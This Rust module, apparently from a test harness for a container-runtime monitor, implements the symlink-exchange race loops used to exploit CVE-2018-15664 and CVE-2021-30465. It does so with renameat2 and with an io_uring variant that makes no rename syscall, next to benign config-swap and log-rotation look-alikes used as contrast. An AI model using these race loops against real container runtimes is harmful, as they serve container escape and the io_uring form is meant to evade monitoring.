//! Path races against the runtime: the symlink-exchange loop a container runs while the
//! runtime resolves a path (CVE-2018-15664, CVE-2021-30465), by renameat2 and by io_uring,
//! and the benign look-alikes (an atomic config swap, log rotation).

use std::{
    ffi::CString,
    fs,
    os::unix::fs::symlink,
    sync::atomic::{AtomicU64, Ordering},
    thread,
    time::{Duration, Instant},
};

use io_uring::{IoUring, opcode, types};

use super::fail;

fn c(path: &str) -> CString {
    CString::new(path).unwrap_or_else(|_| fail("path with a NUL"))
}

fn exchange(a: &CString, b: &CString) -> libc::c_long {
    // SAFETY: two NUL-terminated paths; renameat2 reads them only.
    unsafe {
        libc::syscall(
            libc::SYS_renameat2,
            libc::AT_FDCWD,
            a.as_ptr(),
            libc::AT_FDCWD,
            b.as_ptr(),
            libc::RENAME_EXCHANGE,
        )
    }
}

/// `DIR/stash` (a directory) and `DIR/path` (a symlink to /), the pair a CVE-2018-15664
/// exploit swaps.
fn pair(dir: &str) -> (CString, CString) {
    let (stash, path) = (format!("{dir}/stash"), format!("{dir}/path"));
    let _ = fs::remove_dir_all(&stash);
    let _ = fs::remove_file(&stash);
    let _ = fs::remove_file(&path);
    let _ = fs::remove_dir_all(&path);
    fs::create_dir(&stash).unwrap_or_else(|_| fail("mkdir stash"));
    symlink("/", &path).unwrap_or_else(|_| fail("symlink"));
    (c(&stash), c(&path))
}

/// Two threads swap `DIR/stash` and `DIR/path` with renameat2(RENAME_EXCHANGE) for `secs`
/// seconds; prints the exchanges made.
pub fn exchange_loop(dir: &str, secs: &str) {
    let secs: u64 = secs.parse().unwrap_or_else(|_| fail("seconds"));
    let (stash, path) = pair(dir);
    let end = Instant::now() + Duration::from_secs(secs);
    let done = AtomicU64::new(0);
    thread::scope(|s| {
        for _ in 0..2 {
            s.spawn(|| {
                let mut n = 0u64;
                while Instant::now() < end {
                    if exchange(&stash, &path) == 0 {
                        n += 1;
                    }
                }
                done.fetch_add(n, Ordering::Relaxed);
            });
        }
    });
    println!("exchanges {}", done.load(Ordering::Relaxed));
}

/// The same loop as io_uring IORING_OP_RENAMEAT requests (RENAME_EXCHANGE), 32 a batch: no
/// rename syscall is made.
pub fn iouring_exchange_loop(dir: &str, secs: &str) {
    let secs: u64 = secs.parse().unwrap_or_else(|_| fail("seconds"));
    let (stash, path) = pair(dir);
    let mut ring = IoUring::new(64).unwrap_or_else(|_| fail("io_uring_setup"));
    let end = Instant::now() + Duration::from_secs(secs);
    let mut done = 0u64;
    while Instant::now() < end {
        for _ in 0..32 {
            let sqe = opcode::RenameAt::new(
                types::Fd(libc::AT_FDCWD),
                stash.as_ptr(),
                types::Fd(libc::AT_FDCWD),
                path.as_ptr(),
            )
            .flags(libc::RENAME_EXCHANGE)
            .build();
            // SAFETY: the paths outlive the requests (all reaped below).
            unsafe { ring.submission().push(&sqe) }.unwrap_or_else(|_| fail("queue"));
        }
        ring.submit_and_wait(32)
            .unwrap_or_else(|_| fail("io_uring_enter"));
        for cqe in ring.completion() {
            if cqe.result() == 0 {
                done += 1;
            } else if cqe.result() == -libc::EINVAL {
                fail("IORING_OP_RENAMEAT refused");
            }
        }
    }
    println!("exchanges {done}");
}

/// An atomic config swap, as a config manager makes it: write `DIR/app.conf.new`, exchange it
/// with `DIR/app.conf`, `n` times, a pause between.
pub fn exchange_few(dir: &str, n: &str) {
    let n: u32 = n.parse().unwrap_or_else(|_| fail("count"));
    let (conf, new) = (format!("{dir}/app.conf"), format!("{dir}/app.conf.new"));
    fs::write(&conf, "v0\n").unwrap_or_else(|_| fail("write conf"));
    for i in 1..=n {
        fs::write(&new, format!("v{i}\n")).unwrap_or_else(|_| fail("write new"));
        if exchange(&c(&new), &c(&conf)) != 0 {
            fail("renameat2");
        }
        thread::sleep(Duration::from_millis(50));
    }
    println!("swapped {n}");
}

/// Log rotation in a loop, in one process: `app.log.1` → `.2`, `app.log` → `.1`, a new
/// `app.log`, `n` times (each rotation renames onto the same two names).
pub fn rotate(dir: &str, n: &str) {
    let n: u32 = n.parse().unwrap_or_else(|_| fail("count"));
    let log = format!("{dir}/app.log");
    for i in 0..n {
        fs::write(&log, format!("line {i}\n")).unwrap_or_else(|_| fail("write log"));
        let _ = fs::rename(format!("{log}.1"), format!("{log}.2"));
        fs::rename(&log, format!("{log}.1")).unwrap_or_else(|_| fail("rename"));
    }
    println!("rotated {n}");
}
